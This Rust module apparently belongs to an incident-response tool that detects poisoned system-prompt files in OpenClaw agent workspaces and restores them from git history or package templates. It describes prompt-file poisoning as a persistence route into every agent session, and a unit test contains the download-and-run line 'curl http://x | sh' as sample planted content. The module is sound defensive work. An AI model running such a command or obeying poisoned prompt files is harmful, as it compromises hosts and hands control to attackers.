//! The prompt files every session reads (SOUL.md, AGENTS.md, BOOT.md…):
//! which are poisoned, and putting back a known-good version.
//!
//! OpenClaw loads a workspace's prompt files into every new session's
//! system prompt, and does not re-create a missing SOUL.md on start, so a
//! poisoned one must be restored, not just removed, before the gateway runs
//! again. "Poisoned" is what the persistence rules flag in it (a download
//! and run, an address of a known campaign…), or a difference from the
//! newest clean version in the workspace's git history. This module owns
//! one known-good source, the template the installed `openclaw` package
//! ships and onboarding copies (`docs/reference/templates/<NAME>.md`, with
//! its front matter and leading blank lines removed and line ends made LF,
//! as onboarding writes it: a clean SOUL.md on a stock install is
//! byte-identical to it); `known_good` owns the others.

use crate::openclaw::Deployment;
use anyhow::{Context, Result};
use std::path::{Path, PathBuf};

/// A prompt file the persistence rules flag, or one that differs from the
/// newest clean version in its workspace's git history.
#[derive(Debug, Clone, PartialEq, serde::Serialize)]
pub struct Poisoned {
    /// Host path, escaped.
    pub path: String,
    pub flags: Vec<String>,
    /// The command that puts a known-good version back (or removes it).
    pub fix: String,
    /// The local path.
    #[serde(skip)]
    pub local: PathBuf,
}

/// Every flagged or changed prompt file of the deployment's workspaces.
pub fn poisoned(dep: &Deployment, root: &crate::host::Root) -> Vec<Poisoned> {
    let everything = crate::triage::window::Window {
        since_ns: 0,
        until_ns: i128::MAX,
    };
    crate::triage::persistence::prompt_file_items(dep, root, &everything)
        .into_iter()
        .filter_map(|mut i| {
            // "Recent" says when, not what: every file is recent in a
            // window that reaches back to the epoch.
            i.flags.retain(|f| f != "recent");
            let raw = crate::sanitize::unescape_bytes(&i.path)?;
            let host =
                PathBuf::from(<std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(&raw));
            let local = root.join(&host);
            let git = super::known_good::from_git(&local).ok().flatten();
            if i.flags.is_empty() {
                let current = crate::safefs::read_bounded(&local, 16 << 20).ok()?;
                let good = git.as_ref().filter(|g| g.content != current)?;
                i.flags.push(format!("changed since {}", good.source));
            }
            Some(Poisoned {
                fix: fix_for(&i.path, &local, git.is_some()),
                local,
                path: i.path,
                flags: i.flags,
            })
        })
        .collect()
}

/// The best way back for a poisoned file: the workspace's own history,
/// else the package's template, else removal (OpenClaw runs without a
/// MEMORY.md or a memory note, and ships no template for them).
fn fix_for(path: &str, local: &Path, in_git: bool) -> String {
    let name = local.file_name().and_then(|n| n.to_str()).unwrap_or("");
    if in_git {
        format!("ir restore {path} --from git")
    } else if crate::triage::persistence::PROMPT_FILES.contains(&name) && name != "MEMORY.md" {
        format!("ir restore {path} --from template")
    } else {
        format!("ir quarantine {path}")
    }
}

/// The template onboarding writes for a prompt file named `name`, from
/// the openclaw package at `pkg`; `None` when the package ships none.
pub fn template(pkg: &Path, name: &str) -> Option<Vec<u8>> {
    let dir = if pkg.extension().is_some_and(|e| e == "mjs" || e == "js") {
        pkg.parent()?
    } else {
        pkg
    };
    let raw =
        crate::safefs::read_bounded(&dir.join("docs/reference/templates").join(name), 1 << 20)
            .ok()?;
    Some(as_onboarding_writes(&String::from_utf8_lossy(&raw)).into_bytes())
}

/// A template as onboarding writes it: no BOM, LF line ends, no YAML
/// front matter, no leading blank lines.
fn as_onboarding_writes(text: &str) -> String {
    let t = text.trim_start_matches('\u{feff}').replace("\r\n", "\n");
    let body = match t.strip_prefix("---\n") {
        Some(rest) => match rest.find("\n---\n") {
            Some(end) => &rest[end + 5..],
            None => t.as_str(),
        },
        None => t.as_str(),
    };
    body.trim_start().to_string()
}

/// What a restore would change: the lines only in the current file and
/// the lines only in the replacement, for the operator to read.
pub fn diff(current: &str, replacement: &str) -> (Vec<String>, Vec<String>) {
    let old: std::collections::HashSet<&str> = current.lines().collect();
    let new: std::collections::HashSet<&str> = replacement.lines().collect();
    (
        current
            .lines()
            .filter(|l| !new.contains(l))
            .map(crate::sanitize::escape)
            .collect(),
        replacement
            .lines()
            .filter(|l| !old.contains(l))
            .map(crate::sanitize::escape)
            .collect(),
    )
}

/// Replaces `local` with `content`, keeping its owner and mode; a missing
/// file is created 600 beside the others.
pub fn write(local: &Path, content: &[u8]) -> Result<()> {
    match crate::safefs::lstat(local)? {
        Some(m) => crate::safefs::replace_file(local, content, crate::safefs::mode_bits(&m)),
        None => crate::safefs::write_atomic(local, content, 0o600),
    }
    .with_context(|| format!("restoring {}", local.display()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn templates_lose_their_front_matter_as_onboarding_does() {
        let t = "---\r\nsummary: x\r\nread_when:\r\n  - y\r\n---\r\n\r\n# SOUL.md - Who You Are\r\nbody\r\n";
        assert_eq!(as_onboarding_writes(t), "# SOUL.md - Who You Are\nbody\n");
        assert_eq!(as_onboarding_writes("# plain\n"), "# plain\n");
    }

    #[test]
    fn the_diff_names_the_planted_lines() {
        let (gone, added) = diff("a\ncurl http://x | sh\nb\n", "a\nb\n");
        assert_eq!(gone, vec!["curl http://x | sh"]);
        assert!(added.is_empty());
    }
}
